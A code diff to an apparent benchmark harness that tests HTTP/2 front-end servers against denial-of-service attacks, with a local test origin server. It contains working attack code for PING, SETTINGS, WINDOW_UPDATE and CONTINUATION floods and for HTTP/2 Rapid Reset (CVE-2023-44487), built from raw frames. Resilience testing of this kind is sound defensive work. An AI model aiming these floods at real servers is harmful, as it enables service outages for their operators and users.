@@ -10,23 +10,24 @@ state machine; the connection preface and the header blocks come from ``h2``/``h
 
 from __future__ import annotations
 
+import multiprocessing
 import selectors
 import socket
 import socketserver
 import ssl
 import struct
-import threading
 import time
 from dataclasses import dataclass
 from typing import Callable
 
 __all__ = [
-    "H2_ATTACKS", "HangingOrigin", "Outcome", "continuation_flood", "hung_requests", "ping_flood",
-    "rapid_reset_burst", "rapid_reset_sustained", "settings_flood", "slowloris", "window_update_flood",
+    "FrameScanner", "Origin", "Outcome", "continuation_flood", "frame", "hung_requests", "ping_flood",
+    "rapid_reset_burst", "rapid_reset_sustained", "request_block", "reset_pairs", "settings_flood",
+    "slowloris", "window_update_flood",
 ]
 
 # Frame types and flags (RFC 9113 §6).
-_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
+_HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION = 1, 3, 4, 6, 7, 8, 9
 _END_STREAM, _END_HEADERS = 0x1, 0x4
 _CANCEL = 0x8
 _GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
@@ -51,7 +52,7 @@ def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes
     return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + struct.pack(">I", stream_id) + payload
 
 
-def _request_block(port: int) -> bytes:
+def request_block(port: int) -> bytes:
     """A stateless HPACK block for ``GET /`` (nothing enters the dynamic table, so
     the same bytes are valid on every stream)."""
     import hpack
@@ -60,7 +61,7 @@ def _request_block(port: int) -> bytes:
     return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in headers])
 
 
-class _FrameScanner:
+class FrameScanner:
     """Reads the server's side of an HTTP/2 connection: GOAWAY code, RST_STREAM count."""
 
     def __init__(self) -> None:
@@ -115,7 +116,7 @@ class _H2Attacker:
         if self.sock.selected_alpn_protocol() != "h2":
             self.sock.close()
             raise RuntimeError("the server did not choose h2")
-        self.scanner = _FrameScanner()
+        self.scanner = FrameScanner()
         self.pending: memoryview | None = None
         self.closed: str | None = None
         self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0))
@@ -241,7 +242,7 @@ def window_update_flood(port: int, window: float) -> Outcome:
     return _flood(port, window, frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), reads=True)
 
 
-def _reset_pairs(block: bytes, first_id: int, count: int) -> bytes:
+def reset_pairs(block: bytes, first_id: int, count: int) -> bytes:
     out = bytearray()
     for sid in range(first_id, first_id + 2 * count, 2):
         out += frame(_HEADERS, _END_STREAM | _END_HEADERS, sid, block)
@@ -252,13 +253,13 @@ def _reset_pairs(block: bytes, first_id: int, count: int) -> bytes:
 def rapid_reset_sustained(port: int, window: float) -> Outcome:
     """HEADERS then RST_STREAM(CANCEL) on a new stream, batch after batch (CVE-2023-44487)."""
     attacker = _H2Attacker(port)
-    block = _request_block(port)
+    block = request_block(port)
     start = time.monotonic()
     deadline = start + window
     sid, sent, cut = 1, 0, None
     try:
         while time.monotonic() < deadline and sid < 2**31 - 400:
-            if attacker.send(_reset_pairs(block, sid, 100)):
+            if attacker.send(reset_pairs(block, sid, 100)):
                 sid += 200
                 sent += 200
             attacker.poll()
@@ -273,7 +274,7 @@ def rapid_reset_sustained(port: int, window: float) -> Outcome:
 def rapid_reset_burst(port: int, window: float, pairs: int = 10_000) -> Outcome:
     """``pairs`` HEADERS+RST_STREAM pairs in one write, then wait for the verdict."""
     attacker = _H2Attacker(port)
-    burst = _reset_pairs(_request_block(port), 1, pairs)
+    burst = reset_pairs(request_block(port), 1, pairs)
     start = time.monotonic()
     deadline = start + window
     cut = None
@@ -295,20 +296,9 @@ def continuation_flood(port: int, window: float) -> Outcome:
     import hpack
 
     field = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-flood", "a" * 1000)])
-    payload = field * max(1, 8192 // len(field))
-    head = frame(_HEADERS, _END_STREAM, 1, _request_block(port))
+    payload = field * max(1, 16384 // len(field))  # the largest frame a peer must accept
+    head = frame(_HEADERS, _END_STREAM, 1, request_block(port))
     return _flood(port, window, frame(_CONTINUATION, 0, 1, payload), reads=True, prologue=head)
-
-
-#: The HTTP/2 attacks by table name, each ``(port, window) -> Outcome``.
-H2_ATTACKS: dict[str, Callable[[int, float], Outcome]] = {
-    "h2 PING flood (never reads)": ping_flood,
-    "h2 SETTINGS flood (never reads)": settings_flood,
-    "h2 WINDOW_UPDATE flood": window_update_flood,
-    "h2 rapid reset, sustained": rapid_reset_sustained,
-    "h2 rapid reset, 10k pairs in one write": rapid_reset_burst,
-    "h2 CONTINUATION flood": continuation_flood,
-}
 
 
 def _watch_closes(socks: list[socket.socket], start: float, deadline: float,
@@ -407,6 +397,7 @@ class _OriginHandler(socketserver.BaseRequestHandler):
 
     def handle(self) -> None:
         sock = self.request
+        server = self.server
         buf = b""
         while True:
             while b"\r\n\r\n" not in buf:
@@ -415,7 +406,9 @@ class _OriginHandler(socketserver.BaseRequestHandler):
                     return
                 buf += data
             _, _, buf = buf.partition(b"\r\n\r\n")
-            if self.server.hang.is_set():
+            with server.requests.get_lock():
+                server.requests.value += 1
+            if server.hang.is_set():
                 while sock.recv(65536):  # silent until the front hangs up
                     pass
                 return
@@ -427,28 +420,41 @@ class _OriginServer(socketserver.ThreadingTCPServer):
     allow_reuse_address = True
     request_queue_size = 1024
 
-    def __init__(self) -> None:
-        self.hang = threading.Event()
+    def __init__(self, requests, hang) -> None:
+        self.requests = requests
+        self.hang = hang
         super().__init__(("127.0.0.1", 0), _OriginHandler)
 
 
-class HangingOrigin:
-    """An origin in a thread of the harness: answers ``200 hello`` (so fronts can
-    start and prove their chain) until :meth:`hang` is called, then accepts and
-    reads every request and never answers."""
+class Origin:
+    """An origin that counts the request heads it gets (``requests``) and answers
+    ``200 hello``; after :meth:`hang` it reads every request and never answers
+    (fronts still start and prove their chain first).
+
+    It runs in a child process, so the harness's own threads (the attackers) do not
+    slow it down through the GIL; the count and the switch are shared with it.
+    """
 
     def __init__(self) -> None:
-        self._server = _OriginServer()
-        self.port = self._server.server_address[1]
-        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
-        self._thread.start()
+        ctx = multiprocessing.get_context("fork")
+        self._requests = ctx.Value("q", 0)
+        self._hang = ctx.Event()
+        server = _OriginServer(self._requests, self._hang)
+        self.port = server.server_address[1]
+        self._proc = ctx.Process(target=server.serve_forever, name="bench-origin", daemon=True)
+        self._proc.start()
+        server.server_close()  # the child has its own copy of the listening socket
+
+    @property
+    def requests(self) -> int:
+        return self._requests.value
 
     def hang(self, on: bool = True) -> None:
         if on:
-            self._server.hang.set()
+            self._hang.set()
         else:
-            self._server.hang.clear()
+            self._hang.clear()
 
     def close(self) -> None:
-        self._server.shutdown()
-        self._server.server_close()
+        self._proc.terminate()
+        self._proc.join(5)
